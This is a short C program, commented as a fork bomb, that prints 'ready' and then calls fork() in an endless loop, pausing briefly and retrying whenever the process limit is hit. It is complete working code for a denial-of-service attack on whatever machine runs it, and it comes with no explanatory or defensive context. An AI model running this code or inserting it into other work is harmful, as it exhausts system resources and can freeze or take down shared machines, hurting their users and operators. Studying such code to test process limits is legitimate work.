/* A fork bomb that does not give up when the limit is reached. */
#include <unistd.h>

int main(void) {
    if (write(1, "ready\n", 6) != 6)
        return 1;
    for (;;)
        if (fork() < 0)
            usleep(1000);
}
